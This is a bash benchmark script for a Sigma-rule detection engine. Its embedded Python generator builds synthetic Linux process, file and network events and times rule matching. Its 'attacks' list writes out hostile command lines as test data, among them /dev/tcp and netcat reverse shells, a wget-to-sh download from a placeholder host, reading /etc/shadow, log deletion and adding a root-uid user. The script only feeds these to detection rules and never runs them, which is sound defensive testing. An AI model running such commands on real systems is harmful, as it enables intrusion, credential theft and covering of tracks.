#!/usr/bin/env bash
# Detection throughput: a whole `vigie rules test` run (read JSON lines, route, match,
# print) over generated Linux events with every SigmaHQ Linux rule loaded. Prints
# events per second; asserts nothing. Débit de la détection ; affiche des chiffres.
#
# Usage: bench/rules.sh [RULES_DIR (default ../shared/sigma/rules/linux)] [EVENTS (default 1000000)]
set -euo pipefail
cd "$(dirname "$0")/.."
RULES=$(realpath "${1:-../shared/sigma/rules/linux}")
N=${2:-1000000}
cargo build --release --bins -q
WORK=$(mktemp -d)
trap 'rm -rf "$WORK"' EXIT
# Events as a server's day gives them: mostly routine, a share of them suspicious
# (SUSPICIOUS, default 1 %), with numbers in paths and arguments so few repeat.
generate() { # N SUSPICIOUS > file
python3 - "$1" "$2" <<'PY'
import json, random, sys
random.seed(7)
n, suspicious = int(sys.argv[1]), float(sys.argv[2])
tools = ["ls", "cat", "grep", "sed", "awk", "find", "ps", "systemctl", "journalctl", "python3",
         "perl", "cron", "logrotate", "gzip", "tar", "rsync", "nginx", "php-fpm", "git", "make",
         "gcc", "sshd", "bash", "sh", "curl", "apt-get", "dpkg", "id", "date", "sleep"]
routine = ["-la /var/log/nginx", "status nginx.service", "-c 'import json; print(1)'",
           "--since today -u ssh", "-czf /backup/www-{n}.tar.gz /var/www", "-rf build/{n}",
           "/etc/hosts", "--version", "-e 's/a/b/' notes{n}.txt", "-name '*.log' -mtime +7",
           "pull origin main", "-s https://repo.gouv.ml/pkg{n}.deb -o pkg.deb", "install -y nano",
           "-aux", "60", "-O2 -o app{n} app.c", "-i notes{n}.txt"]
attacks = ["bash -i >& /dev/tcp/10.0.0.{n}/4444 0>&1", "nc -e /bin/sh 10.0.0.{n} 4444",
           "wget http://x{n}.example/a.sh -O- | sh", "chmod +x /tmp/.x{n}",
           "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "base64 -d /tmp/p{n} | bash",
           "crontab -r", "history -c", "xmrig --donate-level 1 -o pool.minexmr.com:4444",
           "iptables -F", "rm -rf /var/log/auth.log", "cat /etc/shadow", "useradd -o -u 0 x{n}"]
def image(tool):
    return ("/usr/sbin/" if tool in ("sshd", "cron", "nginx", "php-fpm", "logrotate") else "/usr/bin/") + tool
for i in range(n):
    bad = random.random() < suspicious
    kind = i % 10
    if kind < 7:
        if bad:
            line = random.choice(attacks).format(n=i % 250)
            img = random.choice(["/usr/bin/", "/tmp/", "/dev/shm/"]) + line.split()[0]
        else:
            tool = random.choice(tools)
            img, line = image(tool), tool + " " + random.choice(routine).format(n=i)
        ev = {"product": "linux", "category": "process_creation", "Image": img, "CommandLine": line,
              "ParentImage": image(random.choice(["bash", "sshd", "cron", "systemd"])),
              "User": random.choice(["root", "www-data", "alice", "backup"]),
              "CurrentDirectory": random.choice(["/", "/root", "/home/alice", "/var/www"]),
              "ProcessId": 1000 + i, "ParentProcessId": 900 + i % 100}
    elif kind < 9:
        target = (random.choice(["/etc/shadow", "/etc/cron.d/x", "/tmp/.x.sh", "/var/www/html/shell.php", "/etc/ld.so.preload"])
                  if bad else f"/var/lib/app/data/{i}.json")
        ev = {"product": "linux", "category": "file_event", "TargetFilename": target, "Image": image(random.choice(tools))}
    else:
        ev = {"product": "linux", "category": "network_connection", "Image": image(random.choice(tools)),
              "DestinationIp": f"10.{i % 200}.{i % 250}.{i % 199}", "DestinationPort": random.choice([4444, 6667] if bad else [53, 80, 443, 5432]),
              "DestinationHostname": random.choice(["api.telegram.org", "pool.minexmr.com"] if bad else ["repo.gouv.ml", "db.local", "ntp.ubuntu.com"]),
              "Initiated": "true", "Protocol": "tcp"}
    print(json.dumps(ev))
PY
}
generate "$N" 0.01 > "$WORK/events.jsonl"
generate "$N" 0.3 > "$WORK/attacks.jsonl"
size=$(du -m "$WORK/events.jsonl" | cut -f1)
rules=$(target/release/vigie rules check "$RULES" | tail -1)
start=$(date +%s.%N)
target/release/vigie rules test --rules "$RULES" --events "$WORK/events.jsonl" > "$WORK/matches.jsonl"
end=$(date +%s.%N)
matches=$(wc -l < "$WORK/matches.jsonl")
awk -v s="$start" -v e="$end" -v n="$N" -v m="$matches" -v r="$rules" -v mb="$size" 'BEGIN {
    t = e - s
    printf "rules: %s\nevents: %d (%d MiB), matches: %d\ntime: %.2f s, %.0f events/s (one core)\n", r, n, mb, m, t, n / t
}'
echo "(reference whole-run figures quoted in issue 3: Zircolite ~39k/s, Hayabusa ~18k/s, Chainsaw ~4k/s)"

# The engine alone (events parsed beforehand), with these rules and with ten times as many:
# on the day's events, then on a corpus where 30 % are suspicious.
echo "engine alone, 1 % suspicious:"
cargo bench -q -p vigie-rules --bench engine -- "$RULES" "$WORK/events.jsonl"
echo "engine alone, 30 % suspicious:"
cargo bench -q -p vigie-rules --bench engine -- "$RULES" "$WORK/attacks.jsonl"

# The reference oracle (pySigma + SQLite, the converter behind Zircolite) on the first
# 100,000 events, when its Python is given (.ci/run makes one: VIGIE_SIGMA_PYTHON).
if [ -n "${VIGIE_SIGMA_PYTHON:-}" ] && [ -n "${VIGIE_SIGMA_DIR:-}" ]; then
    head -100000 "$WORK/events.jsonl" > "$WORK/events100k.jsonl"
    start=$(date +%s.%N)
    "$VIGIE_SIGMA_PYTHON" "$VIGIE_SIGMA_DIR/oracle/sigma_oracle.py" "$RULES" "$WORK/events100k.jsonl" \
        -o "$WORK/oracle.jsonl" 2> /dev/null
    end=$(date +%s.%N)
    target/release/vigie rules test --rules "$RULES" --events "$WORK/events100k.jsonl" > "$WORK/ours100k.jsonl" 2> /dev/null
    same=$(cmp -s "$WORK/oracle.jsonl" "$WORK/ours100k.jsonl" && echo "identical matches" || echo "matches DIFFER")
    awk -v s="$start" -v e="$end" -v same="$same" 'BEGIN { printf "oracle, 100,000 events: %.2f s, %.0f events/s (%s)\n", e - s, 100000 / (e - s), same }'
else
    echo "oracle skipped: set VIGIE_SIGMA_DIR and VIGIE_SIGMA_PYTHON (see .ci/run)"
fi
